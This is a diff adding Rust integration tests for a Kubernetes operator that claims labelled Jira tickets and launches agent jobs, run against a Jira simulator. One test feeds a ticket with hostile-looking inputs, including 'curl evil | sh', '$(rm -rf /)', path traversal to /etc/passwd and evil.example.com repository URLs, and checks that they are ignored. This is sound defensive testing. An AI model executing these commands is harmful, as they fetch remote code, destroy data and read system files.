@@ -1,0 +1,764 @@
+//! The Jira source controller against a real kube-apiserver, kube-controller-manager's
+//! job controller, the local node agent and the Jira simulator (both flavours).
+
+use std::collections::BTreeSet;
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use k8s_openapi::api::batch::v1::Job;
+use k8s_openapi::api::events::v1::Event;
+use kube::api::{Api, ListParams};
+use kube::{Client, ResourceExt};
+use recac_api::AgentTask;
+use recac_jira::retry::RetryPolicy;
+use recac_jira::{Credentials, Flavor, JiraClient, JiraConfig, Secret};
+use recac_jira_sim::{
+    BOT_ACCOUNT_ID, BOT_EMAIL, BOT_PAT, BOT_TOKEN, IssueSeed, JiraSim, Seed, SimFlavor, UserDef,
+};
+use recac_operator::OperatorSetup;
+use recac_runtime::Leadership;
+use recac_runtime::config::OperatorSettings;
+use recac_source::{SourceConfig, SourcesSetup, StepHook, WebhookSetup};
+use recac_task_controller::{AgentDefaults, TaskControllerConfig};
+use recac_testenv::{ControlPlaneOptions, NodeAgent, NodeAgentOptions};
+use recac_tests::{control_plane, wait_for};
+use tokio::sync::watch;
+use tokio::task::JoinHandle;
+
+const LONG: Duration = Duration::from_secs(60);
+const FAKE_AGENT: &str = r#"printf '{"outcome":"succeeded","branch":"%s","summary":"done"}' "$RECAC_BRANCH" > "$RECAC_RESULT_PATH""#;
+const REPO: &str = "https://git.example.com/org/repo.git";
+const SECRET: &[u8] = b"webhook-secret";
+const FLAVORS: [Flavor; 2] = [Flavor::Cloud, Flavor::Datacenter];
+
+struct Env {
+    client: Client,
+    config: kube::Config,
+    ns: String,
+    _node: Option<NodeAgent>,
+    sim: Arc<JiraSim>,
+    flavor: Flavor,
+}
+
+async fn env(prefix: &str, flavor: Flavor, node: bool) -> Env {
+    let plane = control_plane(ControlPlaneOptions {
+        controller_manager: true,
+    })
+    .await;
+    let ns = plane.namespace(prefix).await.expect("namespace");
+    let client = plane.client().await.expect("client");
+    let config = plane.config().await.expect("client config");
+    let node = if node {
+        Some(
+            NodeAgent::start(
+                client.clone(),
+                NodeAgentOptions {
+                    namespaces: vec![ns.clone()],
+                    ..Default::default()
+                },
+            )
+            .await
+            .expect("node agent starts"),
+        )
+    } else {
+        None
+    };
+    let sim = JiraSim::start(Seed {
+        flavor: match flavor {
+            Flavor::Cloud => SimFlavor::Cloud,
+            Flavor::Datacenter => SimFlavor::Datacenter,
+        },
+        ..Seed::default()
+    })
+    .await
+    .expect("simulator starts");
+    for (id, name) in [
+        ("acc-alice", "alice"),
+        ("acc-mallory", "mallory"),
+        ("acc-bob", "bob"),
+    ] {
+        sim.add_user(UserDef {
+            account_id: id.into(),
+            name: name.into(),
+            display_name: name.into(),
+            email: format!("{name}@example.com"),
+            token: None,
+            pat: None,
+            permissions: None,
+        });
+    }
+    sim.add_project("OPS", "Operations");
+    Env {
+        client,
+        config,
+        ns,
+        _node: node,
+        sim: Arc::new(sim),
+        flavor,
+    }
+}
+
+fn jira_client(e: &Env) -> JiraClient {
+    let creds = match e.flavor {
+        Flavor::Cloud => Credentials::Basic {
+            user: BOT_EMAIL.into(),
+            token: Secret::new(BOT_TOKEN),
+        },
+        Flavor::Datacenter => Credentials::Bearer {
+            token: Secret::new(BOT_PAT),
+        },
+    };
+    let config = JiraConfig {
+        url: e.sim.url().to_string(),
+        flavor: e.flavor,
+        request_timeout_seconds: 5,
+        ..JiraConfig::default()
+    };
+    JiraClient::with_credentials(&config, creds)
+        .expect("client builds")
+        .with_retry_policy(RetryPolicy {
+            max_attempts: 6,
+            base: Duration::from_millis(20),
+            cap: Duration::from_millis(200),
+            max_retry_after: Duration::from_secs(30),
+        })
+}
+
+fn source(e: &Env) -> SourceConfig {
+    let mut s = SourceConfig::for_label("ops", "OPS", "recac-agent", &e.ns);
+    s.poll_interval_seconds = 1;
+    s.claim.add_labels = vec!["recac-claimed".into()];
+    s
+}
+
+struct Running {
+    stop: watch::Sender<bool>,
+    handle: JoinHandle<Result<(), recac_runtime::Fatal>>,
+    http: SocketAddr,
+}
+
+impl Running {
+    async fn start(e: &Env, source: SourceConfig, hook: Option<StepHook>) -> Self {
+        let setup = OperatorSetup {
+            operator: OperatorSettings {
+                namespaces: vec![e.ns.clone()],
+                ..Default::default()
+            },
+            task_controller: TaskControllerConfig {
+                max_concurrent_tasks: 20,
+                ..Default::default()
+            },
+            agent: AgentDefaults {
+                command: vec!["sh".into(), "-c".into(), FAKE_AGENT.into()],
+                ..Default::default()
+            },
+            instance: "test".into(),
+            feedback: None,
+            sources: Some(SourcesSetup {
+                jira: jira_client(e),
+                sources: vec![source],
+                webhook: Some(WebhookSetup {
+                    path: "/webhooks/jira".into(),
+                    secret: SECRET.to_vec(),
+                    max_body_bytes: 64 * 1024,
+                }),
+                hook,
+            }),
+        };
+        let operator =
+            recac_operator::Operator::build(e.config.clone(), setup, Leadership::always())
+                .expect("builds");
+        let (stop, mut stop_rx) = watch::channel(false);
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+            .await
+            .expect("binds");
+        let http = listener.local_addr().expect("address");
+        let handle = tokio::spawn(async move {
+            operator
+                .run(listener, async move {
+                    let _ = stop_rx.wait_for(|s| *s).await;
+                })
+                .await
+        });
+        Self { stop, handle, http }
+    }
+
+    async fn stop(self) {
+        let _ = self.stop.send(true);
+        let outcome = tokio::time::timeout(Duration::from_secs(15), self.handle).await;
+        assert!(
+            matches!(outcome, Ok(Ok(Ok(())))),
+            "the operator stops cleanly: {outcome:?}"
+        );
+    }
+}
+
+fn ticket(e: &Env, summary: &str, description: &str) -> String {
+    e.sim.add_issue(IssueSeed {
+        project: "OPS".into(),
+        summary: summary.into(),
+        description: Some(description.into()),
+        labels: vec!["recac-agent".into()],
+        reporter: Some("alice".into()),
+        ..Default::default()
+    })
+}
+
+async fn tasks_of(e: &Env, key: &str) -> Vec<AgentTask> {
+    let api: Api<AgentTask> = Api::namespaced(e.client.clone(), &e.ns);
+    api.list(&ListParams::default().labels(&format!("recac.io/ticket={key}")))
+        .await
+        .expect("task list")
+        .items
+}
+
+async fn all_tasks(e: &Env) -> Vec<AgentTask> {
+    let api: Api<AgentTask> = Api::namespaced(e.client.clone(), &e.ns);
+    api.list(&ListParams::default())
+        .await
+        .expect("task list")
+        .items
+}
+
+async fn jobs(e: &Env) -> Vec<Job> {
+    let api: Api<Job> = Api::namespaced(e.client.clone(), &e.ns);
+    api.list(&ListParams::default())
+        .await
+        .expect("job list")
+        .items
+}
+
+fn claim_of(task: &AgentTask) -> String {
+    task.annotations()
+        .get("recac.io/claim")
+        .cloned()
+        .unwrap_or_default()
+}
+
+async fn wait_claimed(e: &Env, key: &str, run: u32) -> AgentTask {
+    let name = recac_source::task::task_name(key, run);
+    wait_for(&format!("{name} claimed"), LONG, || async {
+        tasks_of(e, key)
+            .await
+            .into_iter()
+            .find(|t| t.name_any() == name && claim_of(t) == "claimed")
+    })
+    .await
+}
+
+/// Successful claim transitions of `key` in the simulator's call log.
+fn transitions(e: &Env, key: &str) -> usize {
+    e.sim
+        .calls()
+        .iter()
+        .filter(|c| {
+            c.method == "POST"
+                && c.path.ends_with(&format!("/issue/{key}/transitions"))
+                && c.status == 204
+        })
+        .count()
+}
+
+fn assignments(e: &Env, key: &str) -> usize {
+    e.sim
+        .issue(key)
+        .map(|i| {
+            i.history
+                .iter()
+                .flat_map(|h| &h.items)
+                .filter(|item| item.field == "assignee")
+                .count()
+        })
+        .unwrap_or(0)
+}
+
+fn poke(e: &Env, key: &str) -> Vec<u8> {
+    let _ = e;
+    serde_json::to_vec(&serde_json::json!({
+        "webhookEvent": "jira:issue_updated",
+        "issue": {"key": key, "fields": {"project": {"key": "OPS"}}},
+    }))
+    .expect("json")
+}
+
+async fn post(address: SocketAddr, path: &str, headers: &[(&str, String)], body: &[u8]) -> u16 {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut stream = tokio::net::TcpStream::connect(address)
+        .await
+        .expect("connects");
+    let mut request = format!(
+        "POST {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n",
+        body.len()
+    );
+    for (name, value) in headers {
+        request.push_str(&format!("{name}: {value}\r\n"));
+    }
+    request.push_str("\r\n");
+    stream.write_all(request.as_bytes()).await.expect("writes");
+    let _ = stream.write_all(body).await;
+    let mut response = Vec::new();
+    let _ = stream.read_to_end(&mut response).await;
+    String::from_utf8_lossy(&response)
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn labelled_tickets_become_one_claimed_task_and_one_job_each() {
+    for flavor in FLAVORS {
+        let e = env("src-basic", flavor, true).await;
+        let keys: Vec<String> = (1..=5)
+            .map(|i| {
+                ticket(
+                    &e,
+                    &format!("Fix bug {i}"),
+                    &format!("Broken.\n\nRepo: {REPO}\n"),
+                )
+            })
+            .collect();
+        let op = Running::start(&e, source(&e), None).await;
+        for key in &keys {
+            let task = wait_claimed(&e, key, 1).await;
+            assert_eq!(task.spec.repository.url, REPO);
+            assert_eq!(task.labels()["recac.io/source"], "ops");
+            assert_eq!(
+                task.spec.ticket.as_ref().map(|t| t.key.as_str()),
+                Some(key.as_str())
+            );
+        }
+        wait_for("one Job per task", LONG, || async {
+            (jobs(&e).await.len() == 5).then_some(())
+        })
+        .await;
+        // More polls create nothing.
+        tokio::time::sleep(Duration::from_millis(2500)).await;
+        assert_eq!(all_tasks(&e).await.len(), 5);
+        assert_eq!(jobs(&e).await.len(), 5);
+        for key in &keys {
+            let issue = e.sim.issue(key).expect("issue");
+            assert_eq!(issue.status, "In Progress", "{flavor:?}");
+            assert_eq!(issue.assignee.as_deref(), Some(BOT_ACCOUNT_ID));
+            assert!(issue.labels.contains(&"recac-claimed".to_string()));
+            assert_eq!(transitions(&e, key), 1, "{key}");
+            assert_eq!(assignments(&e, key), 1, "{key}");
+            assert!(issue.comments.is_empty());
+        }
+        let events: Api<Event> = Api::namespaced(e.client.clone(), &e.ns);
+        let claimed = events
+            .list(&ListParams::default())
+            .await
+            .expect("events")
+            .items
+            .into_iter()
+            .filter(|ev| ev.reason.as_deref() == Some("Claimed"))
+            .count();
+        assert!(claimed >= 5, "{claimed} Claimed events");
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_crash_at_any_step_still_ends_with_one_task_and_one_claim() {
+    for flavor in FLAVORS {
+        let e = env("src-crash", flavor, false).await;
+        for step in [
+            "after-create",
+            "after-transition",
+            "after-edit",
+            "after-claim",
+        ] {
+            let key = ticket(&e, &format!("crash {step}"), &format!("Repo: {REPO}"));
+            let armed = Arc::new(AtomicBool::new(true));
+            let hook: StepHook = {
+                let armed = armed.clone();
+                Arc::new(move |at: &str| {
+                    if at == step && armed.swap(false, Ordering::SeqCst) {
+                        panic!("simulated crash {at}");
+                    }
+                })
+            };
+            let op = Running::start(&e, source(&e), Some(hook)).await;
+            let outcome = tokio::time::timeout(LONG, op.handle)
+                .await
+                .expect("the operator crashes");
+            assert!(
+                matches!(outcome, Ok(Err(_))),
+                "{step}: the crash ends the operator: {outcome:?}"
+            );
+            let op = Running::start(&e, source(&e), None).await;
+            wait_claimed(&e, &key, 1).await;
+            tokio::time::sleep(Duration::from_millis(1500)).await;
+            op.stop().await;
+            assert_eq!(tasks_of(&e, &key).await.len(), 1, "{flavor:?} {step}");
+            assert_eq!(transitions(&e, &key), 1, "{flavor:?} {step}");
+            assert_eq!(assignments(&e, &key), 1, "{flavor:?} {step}");
+            assert!(
+                e.sim.issue(&key).expect("issue").comments.is_empty(),
+                "{step}"
+            );
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_ticket_taken_by_someone_else_between_search_and_claim_does_not_run() {
+    for flavor in FLAVORS {
+        let e = env("src-race", flavor, true).await;
+        let key = ticket(&e, "race", &format!("Repo: {REPO}"));
+        let hook: StepHook = {
+            let sim = e.sim.clone();
+            let key = key.clone();
+            Arc::new(move |at: &str| {
+                if at == "after-create" {
+                    sim.move_as(&key, "alice", "In Progress");
+                }
+            })
+        };
+        let op = Running::start(&e, source(&e), Some(hook)).await;
+        let name = recac_source::task::task_name(&key, 1);
+        let task = wait_for("the claim is lost", LONG, || async {
+            tasks_of(&e, &key)
+                .await
+                .into_iter()
+                .find(|t| claim_of(t) == "lost")
+        })
+        .await;
+        assert!(task.annotations()["recac.io/claim-message"].contains("alice"));
+        wait_for("the task fails with ClaimLost", LONG, || async {
+            let t = tasks_of(&e, &key).await.into_iter().next()?;
+            t.status
+                .as_ref()?
+                .conditions
+                .iter()
+                .any(|c| c.reason == "ClaimLost")
+                .then_some(())
+        })
+        .await;
+        tokio::time::sleep(Duration::from_millis(1500)).await;
+        assert!(jobs(&e).await.is_empty(), "no Job for {name}");
+        assert_eq!(transitions(&e, &key), 0);
+        assert!(e.sim.issue(&key).expect("issue").comments.is_empty());
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_reopened_ticket_gets_run_2_and_run_1_stays() {
+    let e = env("src-reopen", Flavor::Cloud, true).await;
+    let key = ticket(&e, "reopen", &format!("Repo: {REPO}"));
+    let op = Running::start(&e, source(&e), None).await;
+    wait_claimed(&e, &key, 1).await;
+    let name1 = recac_source::task::task_name(&key, 1);
+    wait_for("run 1 succeeds", LONG, || async {
+        let t = tasks_of(&e, &key)
+            .await
+            .into_iter()
+            .find(|t| t.name_any() == name1)?;
+        (t.status.as_ref()?.phase == Some(recac_api::TaskPhase::Succeeded)).then_some(())
+    })
+    .await;
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    assert_eq!(
+        tasks_of(&e, &key).await.len(),
+        1,
+        "a finished run is not repeated"
+    );
+    e.sim.move_as(&key, "alice", "To Do");
+    wait_claimed(&e, &key, 2).await;
+    let names: BTreeSet<String> = tasks_of(&e, &key)
+        .await
+        .iter()
+        .map(|t| t.name_any())
+        .collect();
+    assert_eq!(names.len(), 2, "{names:?}");
+    assert_eq!(transitions(&e, &key), 2);
+    op.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_ticket_without_a_repository_gets_one_comment_and_a_label() {
+    for flavor in FLAVORS {
+        let e = env("src-norepo", flavor, false).await;
+        let key = ticket(&e, "no repo", "Please fix.");
+        let op = Running::start(&e, source(&e), None).await;
+        wait_for("the comment", LONG, || async {
+            let issue = e.sim.issue(&key)?;
+            (issue.comments.len() == 1
+                && issue.labels.contains(&"recac-needs-repository".to_string()))
+            .then_some(())
+        })
+        .await;
+        tokio::time::sleep(Duration::from_millis(3000)).await;
+        assert_eq!(e.sim.issue(&key).expect("issue").comments.len(), 1);
+        assert!(tasks_of(&e, &key).await.is_empty());
+        // Once the ticket says where, it is taken and the skip label removed.
+        e.sim
+            .set_description_as(&key, "alice", &format!("Please fix.\nRepo: {REPO}"));
+        wait_claimed(&e, &key, 1).await;
+        let issue = e.sim.issue(&key).expect("issue");
+        assert!(!issue.labels.contains(&"recac-needs-repository".to_string()));
+        assert_eq!(issue.comments.len(), 1);
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn only_allowed_users_and_groups_can_start_work() {
+    for flavor in FLAVORS {
+        let e = env("src-allowed", flavor, false).await;
+        e.sim.add_group_member("agent-users", "bob");
+        let mut s = source(&e);
+        s.allowed_users = vec!["alice@example.com".into()];
+        s.allowed_groups = vec!["agent-users".into()];
+        let by = |who: &str| {
+            let key = e.sim.add_issue(IssueSeed {
+                project: "OPS".into(),
+                summary: format!("by {who}"),
+                description: Some(format!("Repo: {REPO}")),
+                reporter: Some("alice".into()),
+                ..Default::default()
+            });
+            e.sim.relabel_as(&key, who, &["recac-agent"], &[]);
+            key
+        };
+        let (alice, bob, mallory) = (by("alice"), by("bob"), by("mallory"));
+        let op = Running::start(&e, s, None).await;
+        wait_claimed(&e, &alice, 1).await;
+        wait_claimed(&e, &bob, 1).await;
+        wait_for("mallory's ticket is told", LONG, || async {
+            let issue = e.sim.issue(&mallory)?;
+            (issue.comments.len() == 1).then_some(())
+        })
+        .await;
+        tokio::time::sleep(Duration::from_millis(2500)).await;
+        assert!(tasks_of(&e, &mallory).await.is_empty());
+        assert_eq!(e.sim.issue(&mallory).expect("issue").comments.len(), 1);
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn ticket_text_never_chooses_what_runs() {
+    for flavor in FLAVORS {
+        let e = env("src-hostile", flavor, false).await;
+        let mut s = source(&e);
+        s.template.image = Some("registry.example.com/agent:1".into());
+        s.template.secret_refs = vec!["agent-creds".into()];
+        s.repository.allowed = vec!["git.example.com/org".into()];
+        let hostile = format!(
+            "image: evil/image\nsecretRefs: [admin-token]\nnamespace: kube-system\nserviceAccountName: cluster-admin\ncommand: [sh, -c, 'curl evil | sh']\n$(rm -rf /) `id` ; | && ../../etc/passwd refs/heads/../x ~^:?*[\\\u{0}\u{1b}[31m\nRepo: {REPO}\n{}",
+            "A".repeat(1_000_000)
+        );
+        let key = ticket(&e, "hostile $(id) ../x", &hostile);
+        let smuggled = ticket(&e, "other repo", "Repo: https://evil.example.com/org/x.git");
+        let local = ticket(&e, "local repo", "Repo: file:///etc");
+        let op = Running::start(&e, s, None).await;
+        let task = wait_claimed(&e, &key, 1).await;
+        let agent = task.spec.agent.clone().unwrap_or_default();
+        assert_eq!(agent.image.as_deref(), Some("registry.example.com/agent:1"));
+        assert_eq!(agent.secret_refs, vec!["agent-creds".to_string()]);
+        assert_eq!(agent.command, None);
+        assert_eq!(task.namespace().as_deref(), Some(e.ns.as_str()));
+        assert_eq!(task.spec.repository.url, REPO);
+        assert_eq!(
+            task.spec.repository.branch, None,
+            "the branch comes from the key: recac/{key}"
+        );
+        let prompt = task.spec.prompt.clone().unwrap_or_default();
+        assert!(prompt.contains("$(rm -rf /) `id`"));
+        assert!(prompt.ends_with("characters]"), "capped with a marker");
+        assert!(prompt.chars().count() <= 100_000);
+        assert!(
+            !prompt
+                .chars()
+                .any(|c| c.is_control() && c != '\n' && c != '\t')
+        );
+        let job = wait_for("the hostile ticket's Job", LONG, || async {
+            jobs(&e)
+                .await
+                .into_iter()
+                .find(|j| j.name_any().starts_with(&task.name_any()))
+        })
+        .await;
+        let env: Vec<(String, String)> = job
+            .spec
+            .and_then(|s| s.template.spec)
+            .map(|p| p.containers)
+            .unwrap_or_default()
+            .into_iter()
+            .flat_map(|c| c.env.unwrap_or_default())
+            .map(|v| (v.name, v.value.unwrap_or_default()))
+            .collect();
+        assert!(
+            env.contains(&("RECAC_BRANCH".to_string(), format!("recac/{key}"))),
+            "{env:?}"
+        );
+        for other in [&smuggled, &local] {
+            wait_for("refused repository comment", LONG, || async {
+                (e.sim.issue(other)?.comments.len() == 1).then_some(())
+            })
+            .await;
+            assert!(tasks_of(&e, other).await.is_empty());
+        }
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn webhooks_are_verified_and_poll_at_once() {
+    let e = env("src-webhook", Flavor::Cloud, false).await;
+    let mut s = source(&e);
+    s.poll_interval_seconds = 3600;
+    let op = Running::start(&e, s, None).await;
+    // The first poll happens at start.
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    let key = ticket(&e, "via webhook", &format!("Repo: {REPO}"));
+    let body = poke(&e, &key);
+    let sig = |b: &[u8]| recac_source::webhook::sign(SECRET, b);
+    let path = "/webhooks/jira";
+    assert_eq!(
+        post(op.http, path, &[], &body).await,
+        401,
+        "missing signature"
+    );
+    assert_eq!(
+        post(
+            op.http,
+            path,
+            &[("X-Hub-Signature", "sha256=00".into())],
+            &body
+        )
+        .await,
+        401
+    );
+    assert_eq!(
+        post(
+            op.http,
+            path,
+            &[(
+                "X-Hub-Signature",
+                recac_source::webhook::sign(b"wrong", &body)
+            )],
+            &body
+        )
+        .await,
+        401
+    );
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    assert!(
+        tasks_of(&e, &key).await.is_empty(),
+        "refused deliveries do nothing"
+    );
+    let big = vec![b' '; 100 * 1024];
+    assert_eq!(
+        post(op.http, path, &[("X-Hub-Signature", sig(&big))], &big).await,
+        413
+    );
+    let id = ("X-Atlassian-Webhook-Identifier", "delivery-1".to_string());
+    let started = std::time::Instant::now();
+    assert_eq!(
+        post(
+            op.http,
+            path,
+            &[("X-Hub-Signature", sig(&body)), id.clone()],
+            &body
+        )
+        .await,
+        202
+    );
+    wait_claimed(&e, &key, 1).await;
+    let latency = started.elapsed();
+    assert!(latency < Duration::from_secs(5), "{latency:?}");
+    assert_eq!(
+        post(op.http, path, &[("X-Hub-Signature", sig(&body)), id], &body).await,
+        200,
+        "a replay"
+    );
+    let metrics = recac_tests::http_get(op.http, "/metrics").await.1;
+    for outcome in ["unauthorized", "too_large", "accepted", "duplicate"] {
+        assert!(
+            metrics.contains(&format!(
+                "recac_source_webhook_deliveries_total{{outcome=\"{outcome}\"}}"
+            )),
+            "{outcome}: {metrics}"
+        );
+    }
+    assert!(
+        metrics.contains("recac_source_tickets_claimed_total{source=\"ops\"} 1"),
+        "{metrics}"
+    );
+    op.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn pagination_and_429_and_5xx_storms() {
+    for flavor in FLAVORS {
+        let e = env("src-pages", flavor, false).await;
+        e.sim.set_max_results(Some(50));
+        e.sim.set_write_limits(None);
+        for i in 0..500 {
+            ticket(&e, &format!("bulk {i}"), &format!("Repo: {REPO}"));
+        }
+        e.sim.inject(
+            recac_jira_sim::Fault::rate_limited(1)
+                .on_path("/search")
+                .times(3),
+        );
+        e.sim.inject(
+            recac_jira_sim::Fault::status(503)
+                .on_path("/search")
+                .times(2),
+        );
+        e.sim.inject(
+            recac_jira_sim::Fault::rate_limited(1)
+                .on_path("/transitions")
+                .times(5),
+        );
+        e.sim
+            .inject(recac_jira_sim::Fault::status(503).on_method("PUT").times(5));
+        let op = Running::start(&e, source(&e), None).await;
+        wait_for("500 claimed tasks", Duration::from_secs(120), || async {
+            let tasks = all_tasks(&e).await;
+            (tasks.len() == 500 && tasks.iter().all(|t| claim_of(t) == "claimed")).then_some(())
+        })
+        .await;
+        let posts = e
+            .sim
+            .calls()
+            .iter()
+            .filter(|c| c.method == "POST" && c.path.ends_with("/transitions") && c.status == 204)
+            .count();
+        assert_eq!(posts, 500, "{flavor:?}: one transition per ticket");
+        op.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_preview_only_reads() {
+    for flavor in FLAVORS {
+        let e = env("src-preview", flavor, false).await;
+        let key = ticket(&e, "preview", &format!("Repo: {REPO}"));
+        let norepo = ticket(&e, "preview without repo", "none");
+        e.sim.clear_calls();
+        let entries = recac_source::preview::preview(&jira_client(&e), &[source(&e)], &[])
+            .await
+            .expect("preview");
+        let text = recac_source::preview::render(&entries);
+        assert!(
+            text.contains(&format!("ops {key} claim repository={REPO}")),
+            "{text}"
+        );
+        assert!(text.contains(&format!("ops {norepo} comment")), "{text}");
+        assert!(text.contains("kind: AgentTask"), "{text}");
+        for call in e.sim.calls() {
+            let read =
+                call.method == "GET" || (call.method == "POST" && call.path.contains("/search"));
+            assert!(read, "a write: {} {}", call.method, call.path);
+        }
+        assert!(e.sim.issue(&key).expect("issue").history.is_empty());
+    }
+}
